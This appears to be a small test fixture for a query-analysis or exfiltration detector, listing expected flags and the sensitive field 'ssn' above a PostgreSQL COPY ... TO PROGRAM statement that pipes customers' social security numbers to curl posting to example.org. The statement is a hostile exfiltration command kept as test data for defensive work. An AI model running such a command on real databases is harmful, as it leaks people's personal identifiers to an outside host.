expect: sql.copy_program sql.select admin
moves: ssn

COPY (SELECT ssn FROM customers) TO PROGRAM 'curl -d @- example.org'
